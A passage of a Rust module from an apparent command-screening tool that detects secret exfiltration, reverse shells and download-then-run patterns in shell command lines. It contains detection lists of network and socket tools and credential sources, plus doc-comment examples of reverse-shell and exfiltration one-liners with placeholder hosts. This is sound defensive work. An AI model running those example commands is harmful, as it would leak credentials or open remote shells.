//! Data flows between the parts of a command line: secrets reaching the network
//! (exfiltration), sockets reaching a shell (reverse and bind shells), downloads reaching
//! execution (download-then-run).
//!
//! Why flows and not commands: `env`, `cat ~/.aws/credentials` and `curl -d @- URL` are each
//! ordinary; `env | curl -d @- URL` is not. The walker already knows what every pipeline stage,
//! substitution and redirect produces ([`Producer`]); a producer that carries secret data is
//! [`Producer::Secret`] with its [`FlowSource`], and this module decides where such data may go
//! ([`FlowSink`]). A network call alone stays fine, and so does a secret read with no sink.
//!
//! Invariant: a verdict raised here carries its [`Flow`] (`Verdict::flow`), so `explain` can
//! name what went where.
//!
//! Sources: environment dumps (`env`, `printenv`, `set`, `export -p`, `declare -x`,
//! `/proc/*/environ`), credential files (the shell's secret list and the read-sensitive entries
//! of the `hookgate-paths` catalog), credential-shaped variables (`$GITHUB_TOKEN`), commands that
//! print credentials (the `credential_access` rules of the taxonomy), secret scanners, and
//! containers that mount a credential location. Secret data stays secret through filters
//! (`base64`, `gzip`, `tar`, `sed`, …). Sinks: network clients reading stdin, their request
//! arguments (body, form, URL, query string) and uploaded files, `/dev/tcp` redirections.

use std::path::{Path, PathBuf};

use hookgate_paths::{Access, Category, PathContext};

use crate::interp::Finding;
use crate::model::{
    Channel, Context, Effect, EffectOp, ExecutedCommand, Flow, FlowSink, FlowSource, Verdict,
};
use crate::targets::{self, Cwd};
use crate::taxonomy::{Args, RuleRef, ids};
use crate::walk::{Producer, Scope, Walker, Word};

/// A verdict for `rule` that carries `flow`; the reason names the flow.
pub(crate) fn verdict(rule: RuleRef, flow: Flow) -> Verdict {
    let mut v = rule.verdict();
    v.reason = format!("{}: {flow}", v.reason);
    v.flow = Some(flow);
    v
}

/// True for variable names that say they hold a credential (`GITHUB_TOKEN`, `PGPASSWORD`,
/// `OPENAI_API_KEY`, `AWS_SECRET_ACCESS_KEY`, `SLACK_WEBHOOK_URL`). Judged on the name's
/// `_`-separated words, so `TOKENIZERS_PARALLELISM`, `SSH_AUTH_SOCK` or `CACHE_KEY` are not.
pub(crate) fn is_credential_variable(name: &str) -> bool {
    const WORDS: &[&str] = &[
        "TOKEN",
        "TOKENS",
        "SECRET",
        "SECRETS",
        "PASSWORD",
        "PASSWD",
        "PASS",
        "PASSPHRASE",
        "APIKEY",
        "CREDENTIAL",
        "CREDENTIALS",
        "CREDS",
        "PAT",
        "COOKIE",
        "WEBHOOK",
    ];
    /// Words that make a following `KEY` a credential (`API_KEY`, `ACCESS_KEY`).
    const KEY_KINDS: &[&str] = &[
        "API",
        "ACCESS",
        "PRIVATE",
        "SECRET",
        "SIGNING",
        "ENCRYPTION",
        "MASTER",
        "LICENSE",
        "SERVICE",
        "ACCOUNT",
        "DEPLOY",
        "AUTH",
        "CLIENT",
    ];
    let upper = name.to_ascii_uppercase();
    let words: Vec<&str> = upper.split('_').filter(|w| !w.is_empty()).collect();
    words.iter().any(|w| {
        WORDS.contains(w)
            || ["PASSWORD", "PASSWD", "TOKEN", "SECRET", "APIKEY"]
                .iter()
                .any(|s| w.ends_with(s) && w.len() > s.len() + 1)
    }) || words
        .windows(2)
        .any(|p| matches!(p, [kind, "KEY" | "KEYS"] if KEY_KINDS.contains(kind)))
}

/// The secret a file read exposes: a credential file (the shell's list, then the catalog's
/// entries whose read is the risk) or a process environment (`/proc/<pid>/environ`).
///
/// Used where data leaves (sink arguments, interpreter reads next to a network call); readers
/// on the hot path use [`read_source`], which skips the catalog inside the workspace.
pub(crate) fn file_source(raw: &str, cwd: &Cwd, ctx: &Context) -> Option<FlowSource> {
    lookup_source(raw, cwd, ctx, true)
}

/// [`file_source`] for every file a reader names (`cat`, `< f`, `tar c`): inside the workspace
/// only the shell's credential list is consulted (agents read workspace files all the time and
/// the catalog's glob matching is the expensive part); outside it, the whole catalog.
pub(crate) fn read_source(raw: &str, cwd: &Cwd, ctx: &Context) -> Option<FlowSource> {
    lookup_source(raw, cwd, ctx, false)
}

fn lookup_source(raw: &str, cwd: &Cwd, ctx: &Context, thorough: bool) -> Option<FlowSource> {
    if raw.is_empty() || raw.starts_with('-') {
        return None;
    }
    let file = || FlowSource::SensitiveFile {
        path: raw.to_owned(),
    };
    if targets::is_secret_path(raw, cwd, ctx) {
        return Some(file());
    }
    let base = match cwd {
        Cwd::Known(p) => p.as_path(),
        Cwd::Unknown => Path::new("/"),
    };
    let path = hookgate_paths::normalize(raw, base, ctx.home.as_deref()).path;
    if is_proc_environ(&path) {
        return Some(FlowSource::Environment { by: raw.to_owned() });
    }
    let consult = thorough || !hookgate_paths::is_within(&path, &ctx.cwd);
    (consult && catalog_secret(&path, ctx, false)).then(file)
}

/// `/proc/self/environ`, `/proc/1/environ`, `/proc/self/task/1/environ`.
fn is_proc_environ(path: &Path) -> bool {
    path.starts_with("/proc") && path.file_name().is_some_and(|n| n == "environ")
}

/// True when the catalog says reading `path` (or, with `subtree`, anything below it) exposes a
/// credential.
fn catalog_secret(path: &Path, ctx: &Context, subtree: bool) -> bool {
    let mut pctx = PathContext::new(ctx.cwd.clone(), ctx.home.clone());
    pctx.workspace = Some(ctx.cwd.clone());
    let matches = if subtree {
        hookgate_paths::classify_subtree(path, &pctx)
    } else {
        hookgate_paths::classify(path, &pctx)
    };
    matches.iter().any(|m| {
        m.access.covers(Access::Read)
            && matches!(
                m.category,
                Category::PrivateKey
                    | Category::CloudCredentials
                    | Category::ContainerCredentials
                    | Category::PackageRegistryCredentials
                    | Category::CredentialStore
                    | Category::EnvFile
                    | Category::ShellHistory
                    | Category::PrivilegeEscalation
            )
    })
}

/// The first secret carried inside words (a `$(env)` substitution, a `$TOKEN` expansion).
pub(crate) fn words_source<'w>(words: impl IntoIterator<Item = &'w Word>) -> Option<FlowSource> {
    words.into_iter().find_map(|w| {
        w.substs.iter().find_map(|p| match p {
            Producer::Secret(s) => Some(s.clone()),
            _ => None,
        })
    })
}

/// Secret scanners: their report lists the secrets they found.
const SECRET_SCANNERS: &[&str] = &[
    "trufflehog",
    "gitleaks",
    "detect-secrets",
    "ggshield",
    "noseyparker",
    "git-secrets",
    "secretlint",
    "whispers",
    "talisman",
    "kingfisher",
];

/// Commands that pass their input through, transformed: secret in, secret out.
const FILTERS: &[&str] = &[
    "cat", "head", "tail", "sort", "uniq", "grep", "egrep", "fgrep", "rg", "sed", "awk", "gawk",
    "cut", "tr", "rev", "base64", "base32", "basenc", "xxd", "od", "hexdump", "gzip", "bzip2",
    "xz", "zstd", "lz4", "compress", "tar", "zip", "openssl", "gpg", "jq", "yq", "column", "fold",
    "paste", "nl", "tac", "strings", "tee", "dd", "iconv", "python", "python3", "perl", "ruby",
    "node", "xargs", "sponge", "cpio", "split",
];

/// Readers whose file operands end up on stdout (`base64 ~/.ssh/id_rsa`, `tar cz ~/.aws`).
const FILE_READERS: &[&str] = &[
    "cat", "head", "tail", "base64", "base32", "xxd", "od", "hexdump", "strings", "tar", "zip",
    "gzip", "bzip2", "xz", "zstd", "gpg", "openssl", "jq", "yq", "sort", "uniq", "grep", "rg",
    "sed", "awk", "cut", "nl", "tac", "dd", "cpio", "7z", "7za",
];

/// What secret a plain command prints, given its arguments and its stdin. `credential_rule`
/// is true when the taxonomy already matched it as a `credential_access` command
/// (`gh auth token`, `kubectl get secret`).
pub(crate) fn command_source(
    name: &str,
    words: &[Word],
    stdin: &Producer,
    credential_rule: bool,
    cwd: &Cwd,
    ctx: &Context,
) -> Option<FlowSource> {
    let is_operand = |w: &&Word| !(w.exact && w.text.starts_with('-') && w.text.len() > 1);
    match name {
        "printenv" => {
            let operands: Vec<&Word> = words.iter().filter(is_operand).collect();
            return match operands.first() {
                None => Some(FlowSource::Environment {
                    by: "printenv".into(),
                }),
                Some(_) => operands
                    .iter()
                    .find(|w| is_credential_variable(&w.text))
                    .map(|w| FlowSource::CredentialVariable {
                        name: w.text.clone(),
                    }),
            };
        }
        "set" | "export" | "declare" | "typeset" | "compgen" => {
            let strings: Vec<String> = words.iter().map(|w| w.text.clone()).collect();
            return is_environment_listing(name, &strings).then(|| FlowSource::Environment {
                by: format!("{name} {}", strings.join(" ")).trim().to_owned(),
            });
        }
        "history" if !words.iter().any(|w| is_operand(&w)) => {
            return Some(FlowSource::CredentialCommand {
                command: "history".into(),
            });
        }
        "docker" | "podman" | "nerdctl" => return container_mount(words, cwd, ctx),
        n if SECRET_SCANNERS.contains(&n) => {
            return Some(FlowSource::SecretScanner { tool: n.to_owned() });
        }
        _ => {}
    }
    if credential_rule {
        let shown: Vec<&str> = words.iter().map(|w| w.text.as_str()).collect();
        return Some(FlowSource::CredentialCommand {
            command: format!("{name} {}", shown.join(" ")).trim().to_owned(),
        });
    }
    if FILE_READERS.contains(&name)
        && let Some(s) = words
            .iter()
            .filter(|w| w.exact && is_operand(w))
            .find_map(|w| read_source(&w.text, cwd, ctx))
    {
        return Some(s);
    }
    if let Some(s) = words_source(words) {
        // `jq -n --arg t "$TOKEN" …` prints what it was given.
        if FILTERS.contains(&name) || name == "echo" || name == "printf" {
            return Some(s);
        }
    }
    match stdin {
        Producer::Secret(s) if FILTERS.contains(&name) => Some(s.clone()),
        _ => None,
    }
}

/// `set` with no arguments, `export`/`export -p`, `declare -x`/`-p`, `typeset -x`, `compgen -e`
/// or `-v`: print every (exported) variable with its value.
fn is_environment_listing(name: &str, args: &[String]) -> bool {
    let (flags, names): (Vec<&String>, Vec<&String>) = args
        .iter()
        .partition(|a| a.starts_with('-') || a.starts_with('+'));
    if !names.is_empty() {
        return false;
    }
    match name {
        "set" | "export" => flags.iter().all(|f| f.as_str() == "-p"),
        "declare" | "typeset" => flags
            .iter()
            .all(|f| f.starts_with('-') && f.chars().skip(1).all(|c| matches!(c, 'p' | 'x'))),
        "compgen" => flags.iter().any(|f| matches!(f.as_str(), "-e" | "-v")),
        _ => false,
    }
}

/// `docker run -v ~/.aws:/a …`: a container that mounts a directory holding credentials (or one
/// above such a directory, like the home) prints whatever it reads from it.
fn container_mount(words: &[Word], cwd: &Cwd, ctx: &Context) -> Option<FlowSource> {
    let mut i = 0;
    while let Some(w) = words.get(i) {
        i += 1;
        let t = w.text.as_str();
        let spec = match t {
            "-v" | "--volume" | "--mount" => {
                i += 1;
                words.get(i - 1).map(|n| n.text.as_str())
            }
            _ => t
                .strip_prefix("--volume=")
                .or_else(|| t.strip_prefix("--mount="))
                .or_else(|| t.strip_prefix("-v").filter(|r| !r.is_empty())),
        };
        let Some(spec) = spec else { continue };
        let host = if spec.contains("source=") || spec.contains("src=") {
            spec.split(',').find_map(|kv| {
                kv.strip_prefix("source=")
                    .or_else(|| kv.strip_prefix("src="))
            })
        } else {
            spec.split(':').next()
        };
        let Some(host) = host.filter(|h| h.starts_with(['/', '~', '.', '$'])) else {
            continue;
        };
        let base = match cwd {
            Cwd::Known(p) => p.as_path(),
            Cwd::Unknown => Path::new("/"),
        };
        let path = hookgate_paths::normalize(host, base, ctx.home.as_deref()).path;
        if targets::is_secret_path(host, cwd, ctx) || catalog_secret(&path, ctx, true) {
            return Some(FlowSource::ContainerMount {
                path: host.to_owned(),
            });
        }
    }
    None
}

/// The names [`is_network_client`] may accept (checked before any argv is parsed, since this
/// runs for every plain command).
fn maybe_network_client(name: &str) -> bool {
    is_network_client(name, &[]) || matches!(name, "aws" | "gh" | "glab")
}

/// Network clients: what sends data to another machine.
fn is_network_client(name: &str, positionals: &[&str]) -> bool {
    match name {
        "curl" | "wget" | "http" | "https" | "xh" | "xhs" | "httpie" | "nc" | "ncat" | "netcat"
        | "nc.traditional" | "nc.openbsd" | "socat" | "ssh" | "scp" | "sftp" | "rsync"
        | "rclone" | "gsutil" | "azcopy" | "s3cmd" | "telnet" | "ftp" | "tftp" | "lftp"
        | "mail" | "mailx" | "mutt" | "sendmail" | "nslookup" | "dig" | "host" | "ping"
        | "websocat" | "wscat" | "grpcurl" | "aria2c" | "openssl" | "cryptcat" | "smbclient"
        | "lwp-request" | "POST" | "PUT" => true,
        "aws" => positionals.first() == Some(&"s3") || positionals.get(1) == Some(&"put-object"),
        "gh" | "glab" => {
            matches!(
                positionals.first().copied(),
                Some("gist" | "api" | "release" | "issue" | "pr" | "secret")
            ) && positionals.get(..2) != Some(&["secret", "set"])
        }
        _ => false,
    }
}

/// Option values that are a client's own credentials, identity or local output, not data it
/// sends: using a key to log in (`ssh -i key`, `curl -u user:$TOKEN`, an `Authorization`
/// header) is what credentials are for.
fn is_identity_option(name: &str, opt: &str) -> bool {
    match name {
        "ssh" | "scp" | "sftp" | "rsync" => matches!(
            opt,
            "-i" | "-F" | "-o" | "-J" | "-S" | "-c" | "-l" | "-p" | "-P" | "-e" | "--rsh"
        ),
        "curl" => matches!(
            opt,
            "-H" | "--header"
                | "-u"
                | "--user"
                | "-U"
                | "--proxy-user"
                | "-E"
                | "--cert"
                | "--key"
                | "--cacert"
                | "--oauth2-bearer"
                | "-b"
                | "--cookie"
                | "-c"
                | "--cookie-jar"
                | "-o"
                | "--output"
                | "-K"
                | "--config"
                | "--netrc-file"
                | "--aws-sigv4"
        ),
        "wget" => matches!(
            opt,
            "--header"
                | "--user"
                | "--password"
                | "--http-user"
                | "--http-password"
                | "-O"
                | "-o"
                | "--certificate"
                | "--private-key"
                | "--load-cookies"
                | "--ca-certificate"
        ),
        "http" | "https" | "xh" | "xhs" | "httpie" => {
            matches!(
                opt,
                "-a" | "--auth" | "-o" | "--output" | "--cert" | "--cert-key"
            )
        }
        _ => false,
    }
}

/// The `name=@file`-style file references an argument may hold: itself, after `@`, after
/// `=@`/`=<` (forms), after `--opt=`; a `;type=…` suffix is dropped.
fn file_refs(arg: &str) -> impl Iterator<Item = &str> {
    let at = arg.strip_prefix('@');
    let form = arg
        .split_once("=@")
        .or_else(|| arg.split_once("=<"))
        .or_else(|| arg.split_once(":=@"))
        .map(|(_, p)| p);
    let named = arg
        .split_once('@')
        .filter(|(k, _)| !k.is_empty() && !k.contains(['/', ':']))
        .map(|(_, p)| p);
    let long = arg
        .strip_prefix("--")
        .and_then(|a| a.split_once('='))
        .map(|(_, p)| p.trim_start_matches('@'));
    // The extracted references first, so the flow names the file (`.env`, not `f=@.env`).
    [at, form, named, long, Some(arg)]
        .into_iter()
        .flatten()
        .map(|p| p.split(";type=").next().unwrap_or(p))
}

/// A secret reaching a network client through its arguments: a substitution or credential
/// variable inside the request (body, form field, URL, query string), or a credential file it
/// uploads. Identity options (`-i`, `-u`, headers) are skipped.
pub(crate) fn argument_flow(name: &str, words: &[Word], cwd: &Cwd, ctx: &Context) -> Option<Flow> {
    if !maybe_network_client(name) {
        return None;
    }
    let strings: Vec<String> = words.iter().map(|w| w.text.clone()).collect();
    let args = Args::parse(name, &strings);
    if !is_network_client(name, &args.positionals) {
        return None;
    }
    let httpie = matches!(name, "http" | "https" | "xh" | "xhs" | "httpie");
    let remote_shell = matches!(name, "ssh");
    let sink = |channel| FlowSink::Network {
        tool: name.to_owned(),
        channel,
    };
    let mut skip_next = false;
    for w in words {
        if skip_next {
            skip_next = false;
            continue;
        }
        let t = w.text.as_str();
        // The option name is literal even when its attached value is not (`--header=…$T`).
        if t.starts_with('-') {
            let opt = t.split('=').next().unwrap_or(t);
            if is_identity_option(name, opt) {
                skip_next = !t.contains('=');
                continue;
            }
        }
        if httpie && is_httpie_header(t) {
            continue;
        }
        if let Some(source) = words_source([w]) {
            // A remote shell's command line carries variables to the user's own machine.
            if !(remote_shell && matches!(source, FlowSource::CredentialVariable { .. })) {
                return Some(Flow {
                    source,
                    sink: sink(Channel::Argument),
                });
            }
        }
        if w.exact
            && let Some(source) = file_refs(t).find_map(|p| file_source(p, cwd, ctx))
        {
            return Some(Flow {
                source,
                sink: sink(Channel::Upload),
            });
        }
    }
    None
}

/// httpie's `Header:value` request item (the first separator is a lone `:`).
fn is_httpie_header(item: &str) -> bool {
    let Some(i) = item.find([':', '=', '@']) else {
        return false;
    };
    // `host:8080/path` is a URL with a port, not a header.
    item.get(i..).is_some_and(|r| {
        r.starts_with(':')
            && !r.starts_with(":=")
            && !r
                .get(1..)
                .is_some_and(|v| v.starts_with(|c: char| c.is_ascii_digit()))
    }) && !item
        .get(..i)
        .is_some_and(|k| k.contains('/') || k.is_empty())
        && !item.contains("://")
}

/// Whether a network client sends what it reads on stdin.
pub(crate) fn stdin_sink(name: &str, words: &[Word]) -> Option<FlowSink> {
    if !maybe_network_client(name) {
        return None;
    }
    let strings: Vec<String> = words.iter().map(|w| w.text.clone()).collect();
    let args = Args::parse(name, &strings);
    if !is_network_client(name, &args.positionals) {
        return None;
    }
    Some(FlowSink::Network {
        tool: name.to_owned(),
        channel: Channel::Stdin,
    })
}

/// Network tools whose output is data from the network (for `… | sh`).
pub(crate) fn receives_network(name: &str, args: &[String]) -> bool {
    matches!(
        name,
        "curl"
            | "wget"
            | "fetch"
            | "http"
            | "https"
            | "xh"
            | "aria2c"
            | "nc"
            | "ncat"
            | "netcat"
            | "nc.traditional"
            | "nc.openbsd"
            | "socat"
            | "lwp-request"
            | "GET"
            | "telnet"
            | "cryptcat"
            | "websocat"
    ) || (name == "openssl" && args.first().is_some_and(|a| a == "s_client"))
}

/// Raw socket tools (a shell in the same pipeline as one of these talks to the network).
fn is_socket_tool(name: &str, argv: &[String]) -> bool {
    matches!(
        name,
        "nc" | "ncat"
            | "netcat"
            | "nc.traditional"
            | "nc.openbsd"
            | "socat"
            | "telnet"
            | "cryptcat"
            | "websocat"
    ) || (name == "openssl" && argv.get(1).is_some_and(|a| a == "s_client"))
}

/// `nc -e sh host port`, `ncat --exec …`, `socat TCP:… EXEC:…`: a network tool that runs a
/// program on the connection.
pub(crate) fn exec_on_socket(name: &str, words: &[Word]) -> Option<Flow> {
    let endpoint = || {
        words
            .iter()
            .filter(|w| !w.text.starts_with('-'))
            .map(|w| w.text.as_str())
            .collect::<Vec<_>>()
            .join(" ")
    };
    match name {
        "nc" | "ncat" | "netcat" | "nc.traditional" | "nc.openbsd" | "cryptcat" | "pwncat" => {
            let mut it = words.iter();
            while let Some(w) = it.next() {
                let t = w.text.as_str();
                let program = if let Some(v) = ["--exec=", "--sh-exec=", "--lua-exec="]
                    .iter()
                    .find_map(|p| t.strip_prefix(p))
                {
                    Some(v.to_owned())
                } else if matches!(t, "--exec" | "--sh-exec" | "--lua-exec")
                    || (t.starts_with('-')
                        && !t.starts_with("--")
                        && t.ends_with(['e', 'c'])
                        && t.len() > 1)
                {
                    Some(it.next().map_or_else(String::new, |v| v.text.clone()))
                } else {
                    None
                };
                if let Some(program) = program {
                    return Some(Flow {
                        source: FlowSource::Network {
                            endpoint: endpoint(),
                        },
                        sink: FlowSink::Execution { program },
                    });
                }
            }
            None
        }
        "socat" => {
            let kind = |w: &Word| {
                w.text
                    .split([':', ','])
                    .next()
                    .unwrap_or("")
                    .to_ascii_uppercase()
            };
            let program = words.iter().find(|w| {
                let k = kind(w);
                k == "EXEC" || k == "SYSTEM"
            })?;
            let net = words.iter().find(|w| {
                let k = kind(w);
                [
                    "TCP", "UDP", "SCTP", "OPENSSL", "SSL", "SOCKS", "PROXY", "DCCP", "VSOCK", "IP",
                ]
                .iter()
                .any(|p| k.starts_with(p))
            })?;
            Some(Flow {
                source: FlowSource::Network {
                    endpoint: net.text.clone(),
                },
                sink: FlowSink::Execution {
                    program: program
                        .text
                        .split_once(':')
                        .map_or(program.text.clone(), |(_, p)| p.to_owned()),
                },
            })
        }
        _ => None,
    }
}

/// `/dev/tcp/host/port` or `/dev/udp/host/port` (bash opens a socket for these).
pub(crate) fn socket_endpoint(word: &Word) -> Option<String> {
    if !word.exact {
        return None;
    }
    let rest = word
        .text
        .strip_prefix("/dev/tcp/")
        .or_else(|| word.text.strip_prefix("/dev/udp/"))?;
    Some(rest.to_owned())
}

/// Shells and interpreters: what executes the data it is given.
fn is_executor(name: &str) -> bool {
    crate::resolve::is_shell(name) || crate::resolve::is_interpreter(name)
}

/// The program of an executed command whose commands come from stdin or a terminal (no
/// `-c`/`-e` code, no script operand): `sh`, `bash -i`, `python3 -`, `/bin/sh -s`.
fn reads_commands_from_stdin(c: &ExecutedCommand) -> Option<String> {
    let name = crate::resolve::command_name(c.argv.first()?);
    if !is_executor(&name) {
        return None;
    }
    let rest = c.argv.get(1..).unwrap_or(&[]);
    let mut operands = rest
        .iter()
        .filter(|a| !a.starts_with('-') && !a.starts_with('+'));
    let code_flag = rest.iter().any(|a| {
        a.starts_with('-')
            && !a.starts_with("--")
            && a.chars()
                .skip(1)
                .any(|ch| matches!(ch, 'c' | 'e' | 'r' | 'm' | 'E'))
    });
    (!code_flag && operands.next().is_none()).then_some(name)
}

/// The normalised path of a word, against the scope's directory.
fn place(text: &str, scope: &Scope, ctx: &Context) -> Option<PathBuf> {
    let base = match &scope.cwd {
        Cwd::Known(p) => p.as_path(),
        Cwd::Unknown if text.starts_with('/') || text.starts_with('~') => Path::new("/"),
        Cwd::Unknown => return None,
    };
    Some(hookgate_paths::normalize(text, base, ctx.home.as_deref()).path)
}

/// The files a downloader writes (`curl -o f`, `curl -O URL`, `wget URL`, `wget -O f`).
fn download_outputs(name: &str, words: &[Word]) -> Vec<String> {
    let mut out = Vec::new();
    let mut remote_name = name == "wget";
    let mut dir: Option<String> = None;
    let mut urls = Vec::new();
    let mut i = 0;
    let value = |i: usize| words.get(i).map(|w| w.text.clone());
    while let Some(w) = words.get(i) {
        i += 1;
        let t = w.text.as_str();
        let (output_opts, dir_opts): (&[&str], &[&str]) = match name {
            "curl" => (&["-o", "--output"], &["--output-dir"]),
            "wget" => (&["-O", "--output-document"], &["-P", "--directory-prefix"]),
            "aria2c" => (&["-o", "--out"], &["-d", "--dir"]),
            _ => (&[], &[]),
        };
        if let Some((opt, v)) = t.split_once('=')
            && opt.starts_with("--")
        {
            if output_opts.contains(&opt) {
                out.push(v.to_owned());
                remote_name = false;
            } else if dir_opts.contains(&opt) {
                dir = Some(v.to_owned());
            }
            continue;
        }
        if t.starts_with("--") {
            if output_opts.contains(&t) {
                out.extend(value(i));
                remote_name = false;
                i += 1;
            } else if dir_opts.contains(&t) {
                dir = value(i);
                i += 1;
            } else if name == "curl" && t == "--remote-name" {
                remote_name = true;
            }
            continue;
        }
        if let Some(cluster) = t.strip_prefix('-').filter(|c| !c.is_empty()) {
            // Short clusters: the value of the last letter may follow (`-sLo f`, `-qO-`).
            for (pos, ch) in cluster.char_indices() {
                let flag = format!("-{ch}");
                let attached = cluster.get(pos + ch.len_utf8()..).unwrap_or("");
                let takes =
                    output_opts.contains(&flag.as_str()) || dir_opts.contains(&flag.as_str());
                if name == "curl" && ch == 'O' {
                    remote_name = true;
                    continue;
                }
                if takes {
                    let v = if attached.is_empty() {
                        i += 1;
                        value(i - 1)
                    } else {
                        Some(attached.to_owned())
                    };
                    if output_opts.contains(&flag.as_str()) {
                        out.extend(v);
                        remote_name = false;
                    } else {
                        dir = v;
                    }
                    break;
                }
            }
            continue;
        }
        urls.push(t.to_owned());
    }
    if remote_name {
        for u in urls {
            let path = u.split(['?', '#']).next().unwrap_or("");
            let after_host = path.split_once("://").map_or(path, |(_, r)| r);
            let file = after_host
                .split_once('/')
                .map_or("", |(_, p)| p.rsplit('/').next().unwrap_or(""));
            let file = if file.is_empty() { "index.html" } else { file };
            out.push(file.to_owned());
        }
    }
    out.retain(|o| o != "-" && !o.is_empty());
    match dir {
        Some(d) => out
            .into_iter()
            .map(|o| format!("{}/{o}", d.trim_end_matches('/')))
            .collect(),
        None => out,
    }
}

/// The secret an unresolved `$NAME`/`${NAME…}` expansion carries: a credential-shaped name, or
/// a variable assigned secret data earlier in the line.
pub(crate) fn secret_variable(
    node: tree_sitter::Node<'_>,
    src: &str,
    scope: &Scope,
) -> Option<FlowSource> {
    let mut cursor = node.walk();
    let name = node
        .children(&mut cursor)
        .find(|c| c.kind() == "variable_name")
        .map(|c| crate::walk::text(c, src))?;
    if let Some((_, source)) = scope.secret_vars.iter().rev().find(|(n, _)| n == name) {
        return Some(source.clone());
    }
    is_credential_variable(name).then(|| FlowSource::CredentialVariable {
        name: name.to_owned(),
    })
}

impl Walker<'_> {
    /// After a statement with redirects ran (its commands are `self.commands[before..]`, its
    /// redirects pushed `self.sockets[sockets..]` and `self.written[written..]`): judges its
    /// sockets and remembers files a download was written to.
    pub(crate) fn after_redirects(
        &mut self,
        before: usize,
        sockets: usize,
        written: usize,
        output: &Producer,
        scope: &mut Scope,
    ) {
        let endpoints: Vec<String> = self
            .sockets
            .drain(sockets.min(self.sockets.len())..)
            .collect();
        let targets: Vec<Word> = self
            .written
            .drain(written.min(self.written.len())..)
            .collect();
        if !endpoints.is_empty() {
            self.judge_sockets(before, &endpoints, output, scope);
        }
        if !targets.is_empty() {
            self.note_downloaded_redirects(output, &targets, scope);
        }
    }

    fn record_flow(&mut self, argv: Vec<String>, scope: &Scope, rule: RuleRef, flow: Flow) {
        self.commands.push(ExecutedCommand {
            argv,
            via: scope.via.clone(),
            verdict: verdict(rule, flow),
            effects: Vec::new(),
            cwd: scope.cwd_path(),
            heredocs: Vec::new(),
            writes: None,
        });
    }

    /// Remembers the files a download writes, so running one later in the line is caught.
    pub(crate) fn note_downloads(&mut self, name: &str, words: &[Word], scope: &mut Scope) {
        if !matches!(name, "curl" | "wget" | "aria2c") || scope.remote {
            return;
        }
        for o in download_outputs(name, words) {
            if let Some(p) = place(&o, scope, self.ctx) {
                scope.downloaded.push(p);
            }
        }
    }

    /// `cmd > file` where `cmd` prints a download: `file` is downloaded code.
    pub(crate) fn note_downloaded_redirects(
        &mut self,
        output: &Producer,
        targets: &[Word],
        scope: &mut Scope,
    ) {
        if *output != Producer::Download || scope.remote {
            return;
        }
        for t in targets.iter().filter(|t| t.exact) {
            if let Some(p) = place(&t.text, scope, self.ctx) {
                scope.downloaded.push(p);
            }
        }
    }

    /// Running a file downloaded earlier in the line: as the command itself (`./f`,
    /// `/tmp/p`), or as the script of a shell, interpreter or `source`.
    pub(crate) fn check_downloaded_run(&mut self, name: &str, argv: &[Word], scope: &Scope) {
        if scope.downloaded.is_empty() {
            return;
        }
        let Some(first) = argv.first() else { return };
        let mut candidates: Vec<&Word> = Vec::new();
        if first.text.contains('/') {
            candidates.push(first);
        }
        if is_executor(name) || matches!(name, "source" | "." | "exec") {
            let rest = argv.get(1..).unwrap_or(&[]);
            let code = rest.iter().any(|w| {
                w.exact
                    && w.text.starts_with('-')
                    && !w.text.starts_with("--")
                    && w.text
                        .chars()
                        .skip(1)
                        .any(|c| matches!(c, 'c' | 'e' | 'r' | 'm'))
            });
            if !code && let Some(script) = rest.iter().find(|w| !w.text.starts_with('-')) {
                candidates.push(script);
            }
        }
        for c in candidates {
            if !c.exact {
                continue;
            }
            if let Some(p) = place(&c.text, scope, self.ctx)
                && scope.downloaded.contains(&p)
            {
                let flow = Flow {
                    source: FlowSource::DownloadedFile {
                        path: c.text.clone(),
                    },
                    sink: FlowSink::Execution {
                        program: first.text.clone(),
                    },
                };
                let argv = argv.iter().map(|w| w.text.clone()).collect();
                self.record_flow(argv, scope, ids::RCE_DOWNLOAD_THEN_RUN, flow);
                return;
            }
        }
    }

    /// After a statement with `/dev/tcp|udp` redirections ran (its commands are
    /// `self.commands[before..]`): a shell or interpreter on a socket is a reverse shell; a
    /// bare `exec 3<>/dev/tcp/…` opens one for later commands; secret output written to a
    /// socket is exfiltration.
    pub(crate) fn judge_sockets(
        &mut self,
        before: usize,
        endpoints: &[String],
        output: &Producer,
        scope: &Scope,
    ) {
        let Some(endpoint) = endpoints.first() else {
            return;
        };
        let ran: Vec<&ExecutedCommand> =
            self.commands.get(before..).unwrap_or(&[]).iter().collect();
        let shell = ran.iter().find_map(|c| {
            let name = crate::resolve::command_name(c.argv.first()?);
            is_executor(&name).then(|| c.argv.join(" "))
        });
        let source = FlowSource::Network {
            endpoint: endpoint.clone(),
        };
        if let Some(program) = shell {
            let flow = Flow {
                source,
                sink: FlowSink::Execution { program },
            };
            self.record_flow(
                vec![format!("/dev/tcp/{endpoint}")],
                scope,
                ids::RCE_REVERSE_SHELL,
                flow,
            );
            return;
        }
        if let Producer::Secret(s) = output {
            let flow = Flow {
                source: s.clone(),
                sink: FlowSink::Network {
                    tool: format!("/dev/tcp/{endpoint}"),
                    channel: Channel::Socket,
                },
            };
            self.record_flow(
                vec![format!("/dev/tcp/{endpoint}")],
                scope,
                ids::CRED_EXFILTRATE,
                flow,
            );
            return;
        }
        let bare_exec = ran
            .iter()
            .any(|c| c.argv.len() == 1 && c.argv.first().is_some_and(|a| a == "exec"));
        if bare_exec {
            let mut v = ids::RCE_SOCKET_FD.verdict();
            v.reason = format!("{}: /dev/tcp/{endpoint}", v.reason);
            self.commands.push(ExecutedCommand {
                argv: vec![format!("/dev/tcp/{endpoint}")],
                via: scope.via.clone(),
                verdict: v,
                effects: Vec::new(),
                cwd: scope.cwd_path(),
                heredocs: Vec::new(),
                writes: None,
            });
        }
    }

    /// A pipeline in which a shell reading commands from its stdin shares the pipe with a raw
    /// socket tool (`cat f | sh -i 2>&1 | nc host 4242 > f`, `telnet h 1 | sh | telnet h 2`):
    /// the shell's commands and output travel over the network. `stages` are the ranges of
    /// `self.commands` each stage recorded.
    pub(crate) fn judge_pipeline(&mut self, stages: &[(usize, usize)], scope: &Scope) {
        let commands = |(a, b): (usize, usize)| self.commands.get(a..b).unwrap_or(&[]);
        let shell = stages.iter().find_map(|r| {
            commands(*r)
                .iter()
                .filter(|c| c.via.len() == scope.via.len())
                .find_map(reads_commands_from_stdin)
        });
        let socket = stages.iter().find_map(|r| {
            commands(*r).iter().find_map(|c| {
                let name = crate::resolve::command_name(c.argv.first()?);
                is_socket_tool(&name, &c.argv).then(|| c.argv.join(" "))
            })
        });
        if let (Some(program), Some(endpoint)) = (shell, socket) {
            let flow = Flow {
